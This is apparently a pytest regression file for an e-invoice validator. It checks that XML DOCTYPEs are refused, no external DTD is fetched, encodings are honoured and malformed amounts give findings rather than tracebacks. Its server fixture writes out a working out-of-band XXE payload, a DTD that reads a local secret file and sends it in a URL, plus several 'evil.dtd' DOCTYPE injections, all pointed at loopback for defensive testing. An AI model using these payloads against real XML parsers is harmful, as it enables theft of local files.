"""Issue #24, item 1: no XML parser in the e-invoice validator reaches outside.

An invoice whose DOCTYPE names an external DTD used to be fetched over HTTP by Saxon (the
published CEN rules), and such a DTD can send a local file's contents to any server inside
a URL; the command then said the invoice was OK. Now every document is parsed once, safely,
and a DOCTYPE is refused before any rule runs. A local HTTP server records every request.
"""

from __future__ import annotations

import http.server
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from einvoice_helpers import documents, load, programme_file

from costshare.check.einvoice.validate import validate_document
from costshare.cli import cli


@pytest.fixture(scope="module")
def peppol(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    return documents(load(programme_file(tmp_path_factory.mktemp("xxe"))))["157-peppol"]


@pytest.fixture
def server(tmp_path: Path) -> Iterator[tuple[str, list[str]]]:
    """A server on loopback that serves an exfiltrating DTD and records every path asked for."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET", encoding="utf-8")
    requests: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            port = self.server.server_address[1]
            body = (
                f'<!ENTITY % file SYSTEM "file://{secret}">\n'
                f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:{port}/leak?%file;'>\">\n"
                "%wrap;\n%send;\n"
            ).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/xml-dtd")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}", requests
    finally:
        httpd.shutdown()
        httpd.server_close()


def with_doctype(xml: bytes, doctype: str) -> bytes:
    declaration, _, body = xml.partition(b"?>")
    return declaration + b"?>\n" + doctype.encode() + b"\n" + body.lstrip()


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE Invoice SYSTEM "{url}/evil.dtd">',
        '<!DOCTYPE Invoice PUBLIC "-//x//EN" "{url}/evil.dtd">',
        '<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "{url}/evil.dtd"> %remote;]>',
    ],
)
@pytest.mark.slow
def test_an_external_dtd_is_never_fetched(
    peppol: bytes, server: tuple[str, list[str]], tmp_path: Path, doctype: str
) -> None:
    url, requests = server
    invoice = tmp_path / "invoice.xml"
    invoice.write_bytes(with_doctype(peppol, doctype.format(url=url)))
    # In a process of its own with a deadline: before the fix, Saxon fetched the DTD and
    # then waited on the server, so an in-process call could hang the test run.
    result = subprocess.run(
        [sys.executable, "-m", "costshare", "--lang", "en", "einvoice", "validate", str(invoice)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert requests == []
    assert result.returncode == 1, result.stdout + result.stderr
    assert "FAILED" in result.stdout
    assert "DOCTYPE" in result.stdout
    assert "Traceback" not in result.stderr


def test_an_internal_entity_is_refused(peppol: bytes) -> None:
    bomb = with_doctype(peppol, '<!DOCTYPE Invoice [<!ENTITY a "aaaaaaaaaa">]>')
    report = validate_document(bomb.replace(b"<cbc:Note>", b"<cbc:Note>&a;", 1))
    assert not report.valid
    assert [finding.rule for finding in report.errors] == ["XML"]


def test_the_declared_encoding_is_honoured(peppol: bytes) -> None:
    """A Latin-1 invoice is the same invoice: Saxon gets the parsed tree, not raw bytes."""
    assert "æ".encode() in peppol or "ø".encode() in peppol  # Danish letters to re-encode
    text = peppol.decode("utf-8")
    declaration, _, body = text.partition("?>")
    latin = (
        declaration.replace("UTF-8", "ISO-8859-1").replace("utf-8", "ISO-8859-1") + "?>" + body
    ).encode("iso-8859-1")
    assert validate_document(peppol).valid
    report = validate_document(latin)
    assert report.valid, [str(finding) for finding in report.errors]


@pytest.mark.parametrize(
    ("xml", "words"),
    [
        (b"<a>" + b"<b>" * 100 + b"</b>" * 100 + b"</a>", "nest more than"),
        (b"<a " + b" ".join(b'x%d="1"' % n for n in range(40)) + b"/>", "attributes"),
    ],
)
def test_the_shape_is_bounded(xml: bytes, words: str) -> None:
    report = validate_document(xml)
    assert not report.valid
    assert words in report.errors[0].text


def test_only_regular_files_are_read(tmp_path: Path) -> None:
    import os

    fifo = tmp_path / "invoice.xml"
    os.mkfifo(fifo)
    result = CliRunner().invoke(cli, ["--lang", "en", "einvoice", "validate", str(fifo)])
    assert result.exit_code == 1
    assert "is not a regular file" in result.output


@pytest.mark.parametrize("element", ["LineExtensionAmount", "PayableAmount", "TaxableAmount"])
def test_an_amount_that_is_not_a_number_is_a_finding_not_a_traceback(
    peppol: bytes, element: str
) -> None:
    """The schema refuses "abc" as an amount; the published CEN stylesheet, run because the
    schema failed, then stopped with Saxon's dynamic error (FORG0001) and a traceback."""
    import re

    changed = re.sub(rf"(<cbc:{element}[^>]*>)[^<]*<".encode(), rb"\1abc<", peppol, count=1)
    assert changed != peppol
    report = validate_document(changed)
    assert not report.valid
    assert any(finding.rule == "UBL-2.1" for finding in report.errors)
    assert any(finding.rule == "EN16931" for finding in report.errors), report.errors
